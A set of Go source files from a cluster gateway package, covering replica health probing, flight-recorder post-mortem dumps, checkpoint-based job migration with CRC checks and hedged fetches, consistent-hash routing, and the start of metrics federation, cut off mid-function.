// healthzBody is the slice of a replica's /healthz the prober reads.
type healthzBody struct {
	Status   string `json:"status"`
	Workers  int    `json:"workers"`
	Backlog  int    `json:"backlog"`
	Depth    int    `json:"depth"`
	Instance struct {
		ID string `json:"id"`
	} `json:"instance"`
	Tracing struct {
		Recorded uint64 `json:"recorded"`
		Dropped  uint64 `json:"dropped"`
	} `json:"tracing"`
	Recovery struct {
		WorkerPanics uint64 `json:"worker_panics"`
	} `json:"recovery"`
}

// probeLoop polls every replica until the gateway closes.
func (g *Gateway) probeLoop() {
	defer g.probeWG.Done()
	t := time.NewTicker(g.cfg.ProbeInterval)
	defer t.Stop()
	for {
		select {
		case <-g.probeCtx.Done():
			return
		case <-t.C:
			for _, r := range g.replicas {
				g.probeOnce(r)
			}
		}
	}
}

// probeOnce probes one replica and updates its state. A replica that
// transitions to draining gets its gateway-owned jobs detached for
// migration; one that comes back with a new instance ID is counted as a
// restart and re-admitted.
func (g *Gateway) probeOnce(r *Replica) {
	// An injected probe drop is indistinguishable from a network partition:
	// the prober just sees a failure.
	if g.chaos.DropProbe() {
		g.probeFailed(r)
		return
	}
	ctx, cancel := context.WithTimeout(g.probeCtx, g.cfg.ProbeTimeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, r.URL+"/healthz", nil)
	if err != nil {
		g.probeFailed(r)
		return
	}
	start := time.Now()
	resp, err := g.client.Do(req)
	if err != nil {
		g.probeFailed(r)
		return
	}
	defer resp.Body.Close()
	var h healthzBody
	if err := json.NewDecoder(resp.Body).Decode(&h); err != nil {
		// A draining replica answers 503 but still carries a well-formed
		// body; only an unparseable response is a failed probe.
		g.probeFailed(r)
		return
	}
	g.observeProbeRTT(time.Since(start))

	r.mu.Lock()
	prev := r.state
	r.probes++
	firstProbe := r.probes == 1
	r.failures = 0
	if h.Instance.ID != "" && r.instanceID != "" && h.Instance.ID != r.instanceID {
		r.restarts++
	}
	r.instanceID = h.Instance.ID
	r.workers = h.Workers
	r.backlog = h.Backlog
	r.depth = h.Depth
	r.spansRecorded = h.Tracing.Recorded
	r.spansDropped = h.Tracing.Dropped
	panicsBefore := r.workerPanics
	r.workerPanics = h.Recovery.WorkerPanics
	switch {
	case h.Status == "draining":
		r.state = StateDraining
	case h.Workers > 0 && h.Depth >= h.Workers+h.Backlog:
		// Admission queue effectively full: submissions would shed. Keep it
		// routable as a last resort only.
		r.state = StateDegraded
	default:
		r.state = StateUp
	}
	cur := r.state
	r.mu.Unlock()
	// A successful probe is the breaker's recovery signal: an open breaker
	// half-opens (probe-driven recovery), a half-open one re-closes.
	r.br.noteProbeSuccess()

	if cur != prev {
		g.noteTransition(r, prev, cur)
	}
	if !firstProbe && h.Recovery.WorkerPanics > panicsBefore {
		// A replica worker panicked since the last probe: a recoverable
		// fault, but exactly what the flight recorder is for.
		g.flightRecord("worker-panic", map[string]any{
			"replica":       r.URL,
			"label":         r.Label,
			"worker_panics": h.Recovery.WorkerPanics,
		})
	}

	if cur == StateDraining {
		// The migration trigger: detach every gateway job on the draining
		// replica. Each relay goroutine sees its job's migrated frame and
		// carries the checkpoint to a peer. This runs on EVERY draining
		// observation, not just the transition: a job whose accepted frame
		// was still in flight during the first sweep is caught by the next
		// one (detaching an already-detached job is a no-op).
		go g.migrateOff(r)
	}
}

func (g *Gateway) probeFailed(r *Replica) {
	r.mu.Lock()
	prev := r.state
	r.probes++
	r.failures++
	if r.failures >= g.cfg.FailThreshold {
		r.state = StateDown
	}
	cur := r.state
	r.mu.Unlock()
	r.br.noteFailure()
	if cur != prev {
		g.noteTransition(r, prev, cur)
	}
}

// noteStreamFailureOn routes a relay-observed stream break through the
// failure detector and records any resulting state transition exactly as
// a failed probe would — a crash detected by a breaking relay deserves
// the same incident-timeline entry and flight-recorder dump.
func (g *Gateway) noteStreamFailureOn(r *Replica) {
	prev, cur := r.noteStreamFailure(g.cfg.FailThreshold)
	if cur != prev {
		g.noteTransition(r, prev, cur)
	}
}

// noteTransition records a replica state change as a process-level span
// and, when the change is a death, a flight-recorder dump: the prober is
// the gateway's failure detector, so its transitions are the cluster's
// incident timeline.
func (g *Gateway) noteTransition(r *Replica, prev, cur State) {
	g.rec.Instant("", "gw.probe-transition",
		"replica", r.Label, "url", r.URL, "from", prev.String(), "to", cur.String())
	if cur == StateDown {
		g.flightRecord("replica-down", map[string]any{
			"replica": r.URL,
			"label":   r.Label,
			"from":    prev.String(),
		})
	}
}
