package cluster

// The flight recorder: when the cluster hits a failure worth a post-mortem
// — a replica death, a checkpoint whose CRC gate fired, a worker panic on
// a replica, a job the retry budget could not save — the gateway dumps a
// self-contained JSON artifact into Config.FlightRecorderDir: the trigger,
// the gateway's counters, every replica's probed view, and the tail of the
// host-span ring (the last N wall-clock spans across all jobs). Each dump
// stands alone: no grepping gateway logs, no correlating timestamps across
// machines. Disabled unless a directory is configured.

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"
)

// flightRecorder serializes dump writes, numbers them, and rotates old
// dumps past the disk cap.
type flightRecorder struct {
	dir      string
	tail     int   // host spans captured per dump
	maxDumps int   // rotate past this many flight-*.json files
	maxBytes int64 // ... or past this many total bytes

	mu  sync.Mutex
	seq uint64
}

// newFlightRecorder returns nil (disabled) when dir is empty.
func newFlightRecorder(dir string, tail, maxDumps int, maxBytes int64) *flightRecorder {
	if dir == "" {
		return nil
	}
	if tail <= 0 {
		tail = 256
	}
	if maxDumps <= 0 {
		maxDumps = 512
	}
	if maxBytes <= 0 {
		maxBytes = 256 << 20
	}
	return &flightRecorder{dir: dir, tail: tail, maxDumps: maxDumps, maxBytes: maxBytes}
}

// flightRecord writes one post-mortem dump. reason is a short stable slug
// ("replica-down", "checkpoint-crc-mismatch", "worker-panic", "job-failed")
// that also lands in the filename; detail carries the trigger-specific
// evidence. Failures to write are swallowed — forensics must never take
// the data path down.
func (g *Gateway) flightRecord(reason string, detail map[string]any) {
	fr := g.fr
	if fr == nil {
		return
	}
	views := make([]snapshotView, len(g.replicas))
	for i, rep := range g.replicas {
		views[i] = rep.view()
	}
	now := time.Now().UTC()
	doc := map[string]any{
		"reason":   reason,
		"time":     now.Format(time.RFC3339Nano),
		"gateway":  g.instanceID,
		"detail":   detail,
		"replicas": views,
		"counters": map[string]any{
			"accepted":          g.accepted.Load(),
			"completed":         g.completed.Load(),
			"retries":           g.retries.Load(),
			"migrations":        g.migrations.Load(),
			"scratch_resumes":   g.scratchResume.Load(),
			"corrupt_fetches":   g.corruptFetch.Load(),
			"shed":              g.shed.Load(),
			"synthesized_fails": g.synthesized.Load(),
		},
		"spans": g.rec.Tail(fr.tail),
	}

	fr.mu.Lock()
	defer fr.mu.Unlock()
	fr.seq++
	name := fmt.Sprintf("flight-%s-%04d-%s.json",
		now.Format("20060102T150405.000"), fr.seq, reason)
	if err := os.MkdirAll(fr.dir, 0o755); err != nil {
		return
	}
	f, err := os.Create(filepath.Join(fr.dir, name))
	if err != nil {
		return
	}
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	werr := enc.Encode(doc)
	cerr := f.Close()
	if werr == nil && cerr == nil {
		g.flightDumps.Add(1)
	}
	fr.rotate()
}

// rotate deletes the oldest dumps until the directory is back under both
// caps (count and total bytes), always keeping the newest dump. Dump
// names start with an RFC3339-ish UTC timestamp, so lexical order IS
// chronological order. Called with fr.mu held; removal errors are
// swallowed like write errors — rotation is best-effort forensics
// hygiene, never a data-path hazard.
func (fr *flightRecorder) rotate() {
	entries, err := os.ReadDir(fr.dir)
	if err != nil {
		return
	}
	type dump struct {
		name string
		size int64
	}
	var dumps []dump
	var total int64
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasPrefix(name, "flight-") || !strings.HasSuffix(name, ".json") {
			continue
		}
		info, err := e.Info()
		if err != nil {
			continue
		}
		dumps = append(dumps, dump{name, info.Size()})
		total += info.Size()
	}
	sort.Slice(dumps, func(i, j int) bool { return dumps[i].name < dumps[j].name })
	for len(dumps) > 1 && (len(dumps) > fr.maxDumps || total > fr.maxBytes) {
		if err := os.Remove(filepath.Join(fr.dir, dumps[0].name)); err != nil {
			return
		}
		total -= dumps[0].size
		dumps = dumps[1:]
	}
}

// FlightDumps reports post-mortem dumps written (for tests and /healthz).
func (g *Gateway) FlightDumps() uint64 { return g.flightDumps.Load() }
