// Package cluster implements the gateway tier of the splitmem serve
// cluster: one HTTP front door over N splitmem-serve replicas, providing
// consistent-hash job routing, backlog-aware load balancing, health
// probing with replica state tracking, typed retry of idempotent
// submissions, and snapshot-based live migration of in-flight jobs off
// draining or crashed replicas.
//
// The replica half of the protocol lives in internal/serve (the
// /v1/jobs/{id}/checkpoint export and /v1/jobs/resume endpoints); this
// package is the client of that protocol. The contract the two halves
// uphold together:
//
//   - Every job the gateway acknowledges reaches exactly one terminal
//     result line, through replica drains, crashes, and restarts.
//   - A migrated job's stitched event stream is byte-identical to an
//     uninterrupted single-node run: the deterministic simulation plus the
//     EventsSince cursor make replayed prefixes skippable, so the client
//     never sees a duplicated or missing event line.
//   - A checkpoint corrupted in transit is caught by the snapshot image's
//     own trailer CRC and refetched — a corrupt image is never resumed.
//   - A migrated job runs on exactly one replica at a time: detach is
//     atomic first-wins on the source, and resume is idempotent per
//     migration key on the target (duplicates get 409).
package cluster

import (
	"fmt"
	"sync"
)

// State is a replica's availability as seen by the gateway's prober.
type State int32

const (
	// StateUp: probing healthy, admission queue has room.
	StateUp State = iota
	// StateDegraded: responding, but the admission queue is near capacity —
	// routed to only when no Up replica can take the job.
	StateDegraded
	// StateDraining: SIGTERM'd (503 + "draining" on /healthz). No new work;
	// in-flight gateway jobs are live-migrated off it.
	StateDraining
	// StateDown: failed FailThreshold consecutive probes (or its streams
	// are breaking). Not routed to until a probe succeeds again.
	StateDown
)

// String returns the state's wire name.
func (s State) String() string {
	switch s {
	case StateUp:
		return "up"
	case StateDegraded:
		return "degraded"
	case StateDraining:
		return "draining"
	case StateDown:
		return "down"
	}
	return fmt.Sprintf("state(%d)", int32(s))
}

// Replica is one splitmem-serve backend and the gateway's view of it.
type Replica struct {
	URL string // base URL, no trailing slash; also the ring identity

	// Label is the stable metrics identity ("r0", "r1", ...), assigned by
	// replica slot at gateway construction. Unlike the instance ID it
	// survives process restarts, so federated series are continuous across
	// a rolling restart.
	Label string

	// br is the replica's circuit breaker: a faster, finer-grained gate
	// than the probed State, fed by relay outcomes as well as probes.
	br *breaker

	mu         sync.Mutex
	state      State
	instanceID string // from /healthz; changes on process restart
	workers    int
	backlog    int
	depth      int
	failures   int // consecutive probe/stream failures
	restarts   int // instance-ID changes observed (process restarts)
	probes     uint64

	// Observability counters mirrored from the replica's /healthz.
	spansRecorded uint64 // host spans the replica has recorded
	spansDropped  uint64 // host spans its ring evicted
	workerPanics  uint64 // worker panics its supervisor recovered
}

// State returns the replica's current state.
func (r *Replica) State() State {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.state
}

// Restarts returns how many instance-ID changes the prober has observed.
func (r *Replica) Restarts() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.restarts
}

// InstanceID returns the replica's last-probed process identity.
func (r *Replica) InstanceID() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.instanceID
}

// Breaker returns the replica's circuit-breaker state name
// ("closed", "open", "half-open").
func (r *Replica) Breaker() string { return r.br.current().String() }

// snapshotView is the /healthz row for one replica.
type snapshotView struct {
	URL          string `json:"url"`
	Label        string `json:"label"`
	State        string `json:"state"`
	Breaker      string `json:"breaker"`
	Instance     string `json:"instance,omitempty"`
	Depth        int    `json:"depth"`
	Workers      int    `json:"workers"`
	Restarts     int    `json:"restarts"`
	Spans        uint64 `json:"spans_recorded"`
	SpansDropped uint64 `json:"spans_dropped"`
	WorkerPanics uint64 `json:"worker_panics"`
}

func (r *Replica) view() snapshotView {
	r.mu.Lock()
	defer r.mu.Unlock()
	return snapshotView{
		URL:          r.URL,
		Label:        r.Label,
		State:        r.state.String(),
		Breaker:      r.br.current().String(),
		Instance:     r.instanceID,
		Depth:        r.depth,
		Workers:      r.workers,
		Restarts:     r.restarts,
		Spans:        r.spansRecorded,
		SpansDropped: r.spansDropped,
		WorkerPanics: r.workerPanics,
	}
}

// noteStreamFailure feeds a relay-observed stream break into the same
// failure detector the prober uses, so a crashed replica stops receiving
// traffic before the next probe tick. It returns the before/after states
// so the gateway can record the transition.
func (r *Replica) noteStreamFailure(threshold int) (prev, cur State) {
	r.mu.Lock()
	defer r.mu.Unlock()
	prev = r.state
	r.failures++
	if r.failures >= threshold && r.state != StateDraining {
		r.state = StateDown
	}
	return prev, r.state
}
