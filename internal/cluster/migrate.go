package cluster

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"time"

	"splitmem"
	"splitmem/internal/serve"
)

// checkpointFetchRetries bounds refetches of a checkpoint whose CRC gate
// failed (corruption in transit). Past the budget the job resumes from
// scratch — losing progress, never correctness, and never running a
// corrupt image.
const checkpointFetchRetries = 3

// migrateOff detaches every gateway-owned job on a draining replica. The
// detach stops each job at the source with the typed "migrated" frame;
// the job's own relay goroutine observes it and completes the move. Jobs
// belonging to other clients of the replica are untouched.
func (g *Gateway) migrateOff(r *Replica) {
	for _, j := range g.jobsOn(r) {
		_, upstream := j.owner()
		if upstream == 0 {
			continue
		}
		g.detachUpstream(r, upstream, j)
	}
}

// sameJobBody reports whether an exported submission body belongs to the
// job being resumed. Upstream job IDs restart from 1 when a replica
// process restarts, so a fetch against a remembered ID can hit a
// DIFFERENT job on the reborn instance — a perfectly CRC-valid snapshot
// of the wrong program. The export echoes the original submission body;
// comparing it (compacted, so transport re-encoding can't alias) is the
// identity gate. A false negative only costs a scratch resume.
func sameJobBody(exported json.RawMessage, body []byte) bool {
	var a, b bytes.Buffer
	if json.Compact(&a, exported) != nil || json.Compact(&b, body) != nil {
		return bytes.Equal(exported, body)
	}
	return bytes.Equal(a.Bytes(), b.Bytes())
}

// noteStaleExport accounts one identity-gate rejection: the upstream ID
// resolved to somebody else's job (replica restarted and reissued the ID).
func (g *Gateway) noteStaleExport(r *Replica, upstreamID uint64, j *gwJob, exp *serve.CheckpointExport) {
	g.staleExport.Add(1)
	g.rec.Instant(j.trace, "gw.stale-export",
		"replica", r.Label, "upstream", fmt.Sprintf("%d", upstreamID))
	g.flightRecord("stale-checkpoint-export", map[string]any{
		"stage":    "fetch",
		"replica":  r.URL,
		"label":    r.Label,
		"trace":    j.trace,
		"upstream": upstreamID,
		"want_job": j.name,
		"got_job":  exp.Name,
	})
}

// detachUpstream issues the atomic detach fetch for one upstream job and
// returns its CRC-verified checkpoint. A corrupt transfer is refetched from
// the export ring (the detach already happened); exhausting the budget
// yields an empty spec — scratch resume, never a corrupt image. Not
// hedged: the detach is state-changing and must hit exactly one replica.
func (g *Gateway) detachUpstream(r *Replica, upstreamID uint64, j *gwJob) (*resumeSpec, bool) {
	for attempt := 0; attempt <= checkpointFetchRetries; attempt++ {
		exp, err := g.fetchExport(context.Background(), r, upstreamID, attempt == 0)
		if err != nil || exp == nil {
			return nil, false
		}
		if !sameJobBody(exp.Job, j.body) {
			// The replica restarted and the ID now names another job:
			// its checkpoint would resume the wrong program. Scratch.
			g.noteStaleExport(r, upstreamID, j, exp)
			return &resumeSpec{}, true
		}
		if len(exp.Checkpoint) == 0 {
			return &resumeSpec{}, true
		}
		if verr := splitmem.VerifySnapshot(exp.Checkpoint); verr != nil {
			g.noteCorruptCheckpoint(r, upstreamID, j.trace, len(exp.Checkpoint), exp.Cycles, verr)
			continue
		}
		return &resumeSpec{checkpoint: exp.Checkpoint, cycles: exp.Cycles}, true
	}
	return &resumeSpec{}, true
}

// noteCorruptCheckpoint accounts one CRC-gate rejection and leaves a
// flight-recorder dump naming the replica and checkpoint — chaos-injected
// corruption must produce a self-contained post-mortem artifact.
func (g *Gateway) noteCorruptCheckpoint(r *Replica, upstreamID uint64, trace string, size int, cycles uint64, verr error) {
	g.corruptFetch.Add(1)
	g.rec.Instant(trace, "gw.corrupt-checkpoint",
		"replica", r.Label, "upstream", fmt.Sprintf("%d", upstreamID))
	g.flightRecord("checkpoint-crc-mismatch", map[string]any{
		"stage":      "fetch",
		"replica":    r.URL,
		"label":      r.Label,
		"trace":      trace,
		"checkpoint": fmt.Sprintf("upstream job %d (%d bytes, %d cycles)", upstreamID, size, cycles),
		"upstream":   upstreamID,
		"bytes":      size,
		"cycles":     cycles,
		"error":      verr.Error(),
	})
}

// fetchCheckpoint retrieves the freshest CRC-valid checkpoint for a job
// that has already been detached (or whose replica died). Corrupt
// transfers are refetched up to checkpointFetchRetries times; a dead or
// checkpoint-less source yields an empty spec, which resumes the job from
// scratch with the cursor suppressing the already-streamed prefix.
//
// When the job has migrated before, the fetch is HEDGED: the previous
// hop's export ring (which still holds that hop's last checkpoint —
// older, but CRC-valid) races the current owner's, with the primary
// given a Config.HedgeDelay head start. First valid non-empty checkpoint
// wins and the loser is canceled. A crashed or slow-loris'd owner costs
// one HedgeDelay instead of a full timeout-and-retry ladder; the price of
// a hedge win is re-running from an older cycle count, never correctness
// (determinism plus the client cursor dedupe the replayed prefix).
func (g *Gateway) fetchCheckpoint(rep *Replica, j *gwJob) *resumeSpec {
	_, upstream := j.owner()
	prevRep, prevUp := j.prevOwner()

	type arm struct {
		rep      *Replica
		upstream uint64
		delay    time.Duration
	}
	var arms []arm
	if upstream != 0 {
		arms = append(arms, arm{rep, upstream, 0})
	}
	if prevRep != nil && prevRep != rep && prevUp != 0 {
		arms = append(arms, arm{prevRep, prevUp, g.cfg.HedgeDelay})
	}
	switch len(arms) {
	case 0:
		return &resumeSpec{} // never admitted anywhere: scratch resume
	case 1:
		spec := g.fetchVerified(context.Background(), arms[0].rep, arms[0].upstream, j)
		if spec == nil {
			spec = &resumeSpec{}
		}
		return spec
	}

	g.hedgedFetches.Add(1)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	type armResult struct {
		idx  int
		spec *resumeSpec
	}
	results := make(chan armResult, len(arms))
	for i, a := range arms {
		go func(i int, a arm) {
			if a.delay > 0 {
				t := time.NewTimer(a.delay)
				select {
				case <-t.C:
				case <-ctx.Done():
					t.Stop()
					results <- armResult{i, nil}
					return
				}
			}
			results <- armResult{i, g.fetchVerified(ctx, a.rep, a.upstream, j)}
		}(i, a)
	}
	var fallback *resumeSpec
	for range arms {
		r := <-results
		if r.spec != nil && len(r.spec.checkpoint) > 0 {
			if r.idx == 0 {
				g.hedgeLosses.Add(1)
			} else {
				g.hedgeWins.Add(1)
			}
			g.rec.Instant(j.trace, "gw.hedge",
				"winner", arms[r.idx].rep.Label, "arm", strconv.Itoa(r.idx))
			return r.spec
		}
		if fallback == nil && r.spec != nil {
			fallback = r.spec
		}
	}
	if fallback == nil {
		fallback = &resumeSpec{}
	}
	return fallback
}

// fetchVerified runs the retry-until-valid fetch loop against one
// replica's export ring. nil means the context was canceled (the other
// hedge arm won); an empty spec means the source is gone or has no
// checkpoint — scratch resume.
func (g *Gateway) fetchVerified(ctx context.Context, rep *Replica, upstream uint64, j *gwJob) *resumeSpec {
	for attempt := 0; attempt <= checkpointFetchRetries; attempt++ {
		if ctx.Err() != nil {
			return nil
		}
		exp, err := g.fetchExport(ctx, rep, upstream, false)
		if ctx.Err() != nil {
			return nil
		}
		if err != nil || exp == nil {
			return &resumeSpec{} // source gone: scratch resume
		}
		if !sameJobBody(exp.Job, j.body) {
			// Replica restarted; the ID was reissued to another job. Its
			// snapshot is CRC-valid but of the WRONG PROGRAM — resuming it
			// silently replaces the job's execution. Scratch resume instead:
			// determinism plus the client cursor replay the lost progress.
			g.noteStaleExport(rep, upstream, j, exp)
			return &resumeSpec{}
		}
		if len(exp.Checkpoint) == 0 {
			return &resumeSpec{} // no checkpoint yet: scratch resume
		}
		if verr := splitmem.VerifySnapshot(exp.Checkpoint); verr != nil {
			// The transfer was corrupted on the wire (or by the chaos
			// injector standing in for the wire). The CRC gate catches it;
			// refetch. NEVER resume a corrupt image.
			g.noteCorruptCheckpoint(rep, upstream, j.trace, len(exp.Checkpoint), exp.Cycles, verr)
			continue
		}
		return &resumeSpec{checkpoint: exp.Checkpoint, cycles: exp.Cycles}
	}
	return &resumeSpec{}
}

// fetchExport performs one checkpoint-export GET. The chaos injector gets
// a chance to corrupt the image in transit — the caller's CRC gate must
// catch it.
func (g *Gateway) fetchExport(ctx context.Context, r *Replica, upstreamID uint64, detach bool) (*serve.CheckpointExport, error) {
	url := fmt.Sprintf("%s/v1/jobs/%d/checkpoint", r.URL, upstreamID)
	if detach {
		url += "?detach=1"
	}
	ctx, cancel := context.WithTimeout(ctx, g.cfg.ProbeTimeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return nil, err
	}
	resp, err := g.client.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("checkpoint fetch: status %d", resp.StatusCode)
	}
	var exp serve.CheckpointExport
	if err := json.NewDecoder(resp.Body).Decode(&exp); err != nil {
		return nil, err
	}
	g.chaos.CorruptCheckpoint(exp.Checkpoint)
	return &exp, nil
}
