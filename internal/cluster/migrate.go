package cluster

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"

	"splitmem"
	"splitmem/internal/serve"
)

// checkpointFetchRetries bounds refetches of a checkpoint whose CRC gate
// failed (corruption in transit). Past the budget the job resumes from
// scratch — losing progress, never correctness, and never running a
// corrupt image.
const checkpointFetchRetries = 3

// migrateOff detaches every gateway-owned job on a draining replica. The
// detach stops each job at the source with the typed "migrated" frame;
// the job's own relay goroutine observes it and completes the move. Jobs
// belonging to other clients of the replica are untouched.
func (g *Gateway) migrateOff(r *Replica) {
	for _, j := range g.jobsOn(r) {
		_, upstream := j.owner()
		if upstream == 0 {
			continue
		}
		g.detachUpstream(r, upstream, j.trace)
	}
}

// detachUpstream issues the atomic detach fetch for one upstream job and
// returns its CRC-verified checkpoint. A corrupt transfer is refetched from
// the export ring (the detach already happened); exhausting the budget
// yields an empty spec — scratch resume, never a corrupt image.
func (g *Gateway) detachUpstream(r *Replica, upstreamID uint64, trace string) (*resumeSpec, bool) {
	for attempt := 0; attempt <= checkpointFetchRetries; attempt++ {
		exp, err := g.fetchExport(r, upstreamID, attempt == 0)
		if err != nil || exp == nil {
			return nil, false
		}
		if len(exp.Checkpoint) == 0 {
			return &resumeSpec{}, true
		}
		if verr := splitmem.VerifySnapshot(exp.Checkpoint); verr != nil {
			g.noteCorruptCheckpoint(r, upstreamID, trace, len(exp.Checkpoint), exp.Cycles, verr)
			continue
		}
		return &resumeSpec{checkpoint: exp.Checkpoint, cycles: exp.Cycles}, true
	}
	return &resumeSpec{}, true
}

// noteCorruptCheckpoint accounts one CRC-gate rejection and leaves a
// flight-recorder dump naming the replica and checkpoint — chaos-injected
// corruption must produce a self-contained post-mortem artifact.
func (g *Gateway) noteCorruptCheckpoint(r *Replica, upstreamID uint64, trace string, size int, cycles uint64, verr error) {
	g.corruptFetch.Add(1)
	g.rec.Instant(trace, "gw.corrupt-checkpoint",
		"replica", r.Label, "upstream", fmt.Sprintf("%d", upstreamID))
	g.flightRecord("checkpoint-crc-mismatch", map[string]any{
		"stage":      "fetch",
		"replica":    r.URL,
		"label":      r.Label,
		"trace":      trace,
		"checkpoint": fmt.Sprintf("upstream job %d (%d bytes, %d cycles)", upstreamID, size, cycles),
		"upstream":   upstreamID,
		"bytes":      size,
		"cycles":     cycles,
		"error":      verr.Error(),
	})
}

// fetchCheckpoint retrieves the freshest CRC-valid checkpoint for a job
// that has already been detached (or whose replica died). Corrupt
// transfers are refetched up to checkpointFetchRetries times; a dead or
// checkpoint-less source yields an empty spec, which resumes the job from
// scratch with the cursor suppressing the already-streamed prefix.
func (g *Gateway) fetchCheckpoint(rep *Replica, j *gwJob) *resumeSpec {
	_, upstream := j.owner()
	if upstream == 0 {
		j.mu.Lock()
		upstream = j.upstreamID
		j.mu.Unlock()
	}
	if upstream == 0 {
		return &resumeSpec{}
	}
	for attempt := 0; attempt <= checkpointFetchRetries; attempt++ {
		exp, err := g.fetchExport(rep, upstream, false)
		if err != nil || exp == nil {
			return &resumeSpec{} // source gone: scratch resume
		}
		if len(exp.Checkpoint) == 0 {
			return &resumeSpec{} // no checkpoint yet: scratch resume
		}
		if verr := splitmem.VerifySnapshot(exp.Checkpoint); verr != nil {
			// The transfer was corrupted on the wire (or by the chaos
			// injector standing in for the wire). The CRC gate catches it;
			// refetch. NEVER resume a corrupt image.
			g.noteCorruptCheckpoint(rep, upstream, j.trace, len(exp.Checkpoint), exp.Cycles, verr)
			continue
		}
		return &resumeSpec{checkpoint: exp.Checkpoint, cycles: exp.Cycles}
	}
	return &resumeSpec{}
}

// fetchExport performs one checkpoint-export GET. The chaos injector gets
// a chance to corrupt the image in transit — the caller's CRC gate must
// catch it.
func (g *Gateway) fetchExport(r *Replica, upstreamID uint64, detach bool) (*serve.CheckpointExport, error) {
	url := fmt.Sprintf("%s/v1/jobs/%d/checkpoint", r.URL, upstreamID)
	if detach {
		url += "?detach=1"
	}
	ctx, cancel := context.WithTimeout(context.Background(), g.cfg.ProbeTimeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return nil, err
	}
	resp, err := g.client.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("checkpoint fetch: status %d", resp.StatusCode)
	}
	var exp serve.CheckpointExport
	if err := json.NewDecoder(resp.Body).Decode(&exp); err != nil {
		return nil, err
	}
	g.chaos.CorruptCheckpoint(exp.Checkpoint)
	return &exp, nil
}
