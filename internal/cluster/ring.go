package cluster

import (
	"hash/fnv"
	"sort"
)

// ring is a consistent-hash ring over replica indexes. Each replica owns
// vnodesPerReplica points on a 64-bit circle; a job key walks the circle
// clockwise from its own hash, yielding every replica exactly once in a
// key-stable preference order. Routing by walk order (rather than a single
// owner) is what makes failover cheap: when a job's home replica is
// draining or down, the next replica in its walk takes it, and only keys
// homed on the failed replica move.
type ring struct {
	points []ringPoint // sorted by hash
	n      int         // replica count
}

type ringPoint struct {
	hash uint64
	idx  int
}

const vnodesPerReplica = 64

// newRing builds the ring from the replicas' stable identities (URLs).
func newRing(ids []string) *ring {
	r := &ring{n: len(ids)}
	for i, id := range ids {
		h := fnv.New64a()
		h.Write([]byte(id))
		base := h.Sum64()
		for v := 0; v < vnodesPerReplica; v++ {
			// FNV alone disperses short, similar identities poorly; run each
			// vnode through the splitmix64 finalizer for avalanche.
			r.points = append(r.points, ringPoint{
				hash: keyHash(base + uint64(v)*0x9E3779B97F4A7C15),
				idx:  i,
			})
		}
	}
	sort.Slice(r.points, func(a, b int) bool { return r.points[a].hash < r.points[b].hash })
	return r
}

// keyHash spreads a job ID over the circle (splitmix64 finalizer — job IDs
// are sequential and need mixing).
func keyHash(id uint64) uint64 {
	z := id + 0x9E3779B97F4A7C15
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

// walk returns every replica index exactly once, in the key's preference
// order: the clockwise successor owns the key, the next distinct replica
// is its first failover target, and so on.
func (r *ring) walk(key uint64) []int {
	h := keyHash(key)
	start := sort.Search(len(r.points), func(i int) bool { return r.points[i].hash >= h })
	order := make([]int, 0, r.n)
	seen := make(map[int]bool, r.n)
	for i := 0; i < len(r.points) && len(order) < r.n; i++ {
		p := r.points[(start+i)%len(r.points)]
		if !seen[p.idx] {
			seen[p.idx] = true
			order = append(order, p.idx)
		}
	}
	return order
}
