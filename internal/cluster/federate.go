package cluster

// Metrics federation: the gateway's /metrics is the cluster's single
// scrape target. It renders the gateway-tier registry first, then scrapes
// every replica's Prometheus exposition, rewrites each sample with a
// stable replica="rN" label (the slot label — it survives process
// restarts, unlike the instance ID), and emits the merged families. Each
// underlying series appears exactly once per replica: a migrated job's
// counters live on whichever replicas ran it, disambiguated by label, so
// nothing is double-counted by the merge itself.

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
)

// handleMetrics serves the federated exposition.
func (g *Gateway) handleMetrics(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/plain; version=0.0.4")
	g.metricsMu.Lock()
	err := g.metrics.WritePrometheus(w)
	g.metricsMu.Unlock()
	if err != nil {
		return
	}
	g.writeFederated(w)
}

// promSample is one exposition sample line, split into name, raw label
// text (inside the braces, no braces), and the value/timestamp remainder.
type promSample struct {
	name   string
	labels string
	value  string
}

// promFamily is one metric family: its metadata plus every sample
// attributed to it (histogram _bucket/_sum/_count lines included).
type promFamily struct {
	name    string
	help    string
	typ     string
	samples []promSample
}

// parseExposition splits a Prometheus text exposition into families.
// Sample lines that follow a # TYPE/# HELP header and share its name (or
// carry a suffix like _bucket) join that family; headerless samples get
// an anonymous family of their own name. Unparseable lines are skipped —
// federation degrades, never fails.
func parseExposition(data []byte) []*promFamily {
	var (
		order []string
		fams  = map[string]*promFamily{}
		cur   *promFamily
	)
	family := func(name string) *promFamily {
		f, ok := fams[name]
		if !ok {
			f = &promFamily{name: name}
			fams[name] = f
			order = append(order, name)
		}
		return f
	}
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		if strings.HasPrefix(line, "# HELP ") || strings.HasPrefix(line, "# TYPE ") {
			kind := line[2:6]
			rest := strings.TrimSpace(line[7:])
			name, meta, _ := strings.Cut(rest, " ")
			if name == "" {
				continue
			}
			f := family(name)
			if kind == "HELP" {
